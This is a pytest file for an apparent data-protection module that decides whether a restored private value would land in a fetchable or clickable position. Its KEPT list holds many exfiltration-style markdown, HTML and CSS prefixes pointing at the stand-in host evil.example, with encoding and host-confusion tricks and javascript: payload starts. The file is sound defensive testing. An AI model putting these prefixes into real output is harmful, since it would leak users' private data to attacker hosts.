"""Where a value would land, for every way a client may fetch, render or read it."""

import random
import time

import pytest

from app.core.surrogate import Original
from app.engine.restore import Lane, Originals
from app.engine.sinks import WINDOW, hosts_in, landing

TRUSTED = frozenset({"crm.example", "wiki.example", "xn--bcher-kva.example"})
X = "https://evil.example/?q="

KEPT = [  # (text before the value, where it lands)
    (f"![a]({X}", "image"),
    (f"![]({X}", "image"),
    (f"[a]({X}", "link"),
    (f"[a]( {X}", "link"),
    (f"[a](\n{X}", "link"),
    (f"![a](<{X}", "image"),
    ("![a](<https://evil.example/with spaces?q=", "image"),
    ("![a](<https://evil.example/\\>?q=", "image"),
    ("![a](https://evil.example/a(b)?q=", "image"),
    ("![a](https://evil.example/a\\)?q=", "image"),
    ("![a](https://evil.example/](?q=", "image"),
    ("![a](https://evil.example/](" + "](" * 40 + "?q=", "link"),
    (f"[![a](https://crm.example/x.png)]({X}", "link"),
    ("![a](//evil.example/?q=", "image"),
    ("![a](\\\\evil.example/?q=", "image"),
    ("![a](/\\evil.example/?q=", "image"),
    ("![a](https\\://evil.example/?q=", "image"),
    ("![a](&#104;ttps://evil.example/?q=", "image"),
    ("![a](https&colon;//evil.example/?q=", "image"),
    ("![a](&#x2f;/evil.example/?q=", "image"),
    ("![a](HTTPS://EVIL.EXAMPLE/?q=", "image"),
    ("![a](https://", "image"),
    ("![a](https://crm.example", "image"),
    ("![a](https://crm.example:", "image"),
    ("![a](https://crm.example:x@", "image"),
    ("![a](https://crm.example@evil.example/", "image"),
    ("![a](https://evil.example#@crm.example/", "image"),
    ("![a](https://evil.example?@crm.example/", "image"),
    ("![a](https://crm.example.evil.example/", "image"),
    ("![a](https://evilcrm.example/", "image"),
    ("![a](https://crm.example%2eevil.example/", "image"),
    ("[a](javascript:alert('", "link"),
    ("[a](data:text/html,", "link"),
    ("[a](ftp://crm.example/", "link"),
    ("[a](blob:https://crm.example/", "link"),
    ("[a]: https://evil.example/?q=", "link"),
    ("text\n[a]: https://evil.example/?q=", "link"),
    ("> [a]: //evil.example/?q=", "link"),
    ("1. [a]: //evil.example/?q=", "link"),
    ("[a]: <https://evil.example/x y?q=", "link"),
    ("<https://evil.example/?q=", "link"),
    (X, "link"),
    (f"see {X}", "link"),
    (f"({X}", "link"),
    (f"({X}1)", "link"),  # for GitHub's Markdown the parenthesis belongs to the address if more follows
    (f"[see {X}1]", "link"),
    ("https://evil.example/(x)?q=", "link"),
    ("https://evil.example/[x]?q=", "link"),
    ("wss://evil.example/", "link"),
    ("www.evil.example/?q=", "link"),
    ("javascript:fetch(", "link"),
    ('<style>@import"//evil.example/?q=', "style"),
    ("<style>a{background:url(//evil.example/?q=", "style"),
    ('<img src="https://evil.example/?q=', "attribute"),
    ("<img src='https://evil.example/?q=", "attribute"),
    ("<img src=https://evil.example/?q=", "attribute"),
    ("<IMG SRC=https://evil.example/?q=", "attribute"),
    ('<img\nalt="a > b"\nsrc="https://evil.example/?q=', "attribute"),
    ('<img src=\\"https://evil.example/?q=', "attribute"),
    ('<img src="ht\ntps://evil.example/?q=', "attribute"),
    ('<img src=" https://evil.example/?q=', "attribute"),
    ('<img src="&#104;ttps://evil.example/?q=', "attribute"),
    ('<img srcset="/a.png 1x, https://evil.example/?q=', "attribute"),
    ('<a href="javascript:', "attribute"),
    ('<a title="', "attribute"),
    ('<div style="background:url(', "attribute"),
    ('<div onclick="f(', "attribute"),
    ('<svg><a xlink:href="https://evil.example/', "attribute"),
    ('<form action="//evil.example/?q=', "attribute"),
    ('<b>x</b><img src="https://evil.example/', "attribute"),
]
RESTORED = [
    "",
    "Dear ",
    "a < b and c > ",
    "x <y> ",
    "**",
    "| ",
    "```python\nname = '",
    "```\ncurl -d '",
    "// comment ",
    "//",
    "a // ",
    "path/to//",
    "[a](mailto:",
    "[a](MAILTO:",
    "[a](tel:",
    "[a](",
    "[a](/users/",
    "[a](users?name=",
    "[a](#",
    "[a](https://crm.example/?q=",
    "[a](https://crm.example/a(b)?q=",
    "[a](https://user@crm.example/",
    "[a](https://CRM.example./?q=",
    "[a](https://crm.example:8443/?q=",
    "![a](https://wiki.example#",
    "https://crm.example/",
    "(https://crm.example/x/",
    f"[a]({X}1) and ",
    f"[a]({X}1)",
    f"[a](<{X}1>)",
    f"![a]({X}1)\n",
    f"{X}1 ",
    f"{X}1\n",
    f"<{X}1>",
    f'"{X}1", "name": "',
    f"'{X}1' + '",
    f"`{X}1`: ",
    f"({X}1) ",
    f"[see {X}1] ",
    f"[a]: {X}1\n",
    f"[a]: {X}1 ",
    f'[a]({X}1 "',
    '<a href="mailto:',
    '<a href="tel:',
    '<a href="/users/',
    '<a href="https://crm.example/',
    '<img srcset="https://evil.example/ 1x, /',
    '<a href="https://evil.example/">',
    '<img alt="x">',
    "<p>",
    "List<String> name = ",
    "if a <b: ",
    "note: ",
    "12:30 ",
    "key:",
    "C:\\Users\\",
    "array[i](",
    "see [1] ",
]


def trusted() -> frozenset[str]:
    return TRUSTED


@pytest.mark.parametrize(("before", "sink"), KEPT)
def test_a_value_stays_a_surrogate_where_a_client_may_send_it_away(before: str, sink: str) -> None:
    assert landing(before, trusted) == sink
    assert landing(f"Some prose first.\n\n{before}", trusted) == sink


@pytest.mark.parametrize("before", RESTORED)
def test_a_value_returns_to_prose_code_and_trusted_links(before: str) -> None:
    assert landing(before, trusted) is None
    assert landing(f"Some prose first.\n\n{before}", trusted) is None


def test_hosts_are_asked_for_only_when_a_value_would_land_in_a_link() -> None:
    def never() -> frozenset[str]:
        raise AssertionError("nobody needs to know")

    for before in ("Dear ", "[a](mailto:", "[a](/x?", '<a title="', "[a](javascript:"):
        landing(before, never)


def test_hosts_in_text_are_the_ones_browsers_would_go_to() -> None:
    text = "https://CRM.example./x //wiki.example http://u@h.example:80/ https://evil.example#@not.example [::1] https://[::1]/"
    bare = "www.Shop.example, shop.com:80/x; not.a-host, a@mail.com/ a/b.com/"
    named = {"crm.example", "wiki.example", "h.example", "evil.example", "[::1]", "www.shop.example", "shop.com"}
    assert hosts_in([text, bare, "none here"]) == named


@pytest.mark.parametrize("piece", ["](", "](<", "<a ", "<a b=", '<a b="', "[", "(", "https://", "]: ", "<", "&#x", "\\", "a:b:"])
def test_hostile_text_before_a_value_costs_little(piece: str) -> None:
    text = piece * (2 * WINDOW // len(piece))
    start = time.process_time()
    landing(text, trusted)
    assert time.process_time() - start < 0.2


def test_an_address_whose_beginning_is_out_of_sight_gets_nothing() -> None:
    assert landing(f"https://evil.example/?q={'x' * WINDOW}", trusted) == "link"
    assert landing(f"see {'x' * (WINDOW - 4)}", trusted) is None


@pytest.mark.parametrize("pieces", [["<base href=//evil.example/>"], ["<ba", "se", " href=//evil.example/>"], list("<BASE href=x>")])
def test_a_base_out_of_sight_still_rebases_relative_links(pieces: list[str]) -> None:
    name = "PERSON_4K7Q2MX8FT"
    one = Lane(Originals({name: Original("Maria")}, trusted), json=False, sinks=True)
    for piece in [*pieces, " padding" * WINDOW]:
        one.feed(piece)
    assert one.finish(f"[a](/?q={name}) {name}").endswith(f"[a](/?q={name}) Maria")


def test_the_answer_depends_on_the_window_alone() -> None:
    rng = random.Random(5)
    for _ in range(300):
        text = "".join(rng.choices(["](", "[a", "https://evil.example/", " ", "\n", "<a href=", '"', ")", "x" * 700, "mailto:"], k=20))
        assert landing(text, trusted) == landing(text[-WINDOW:], trusted)
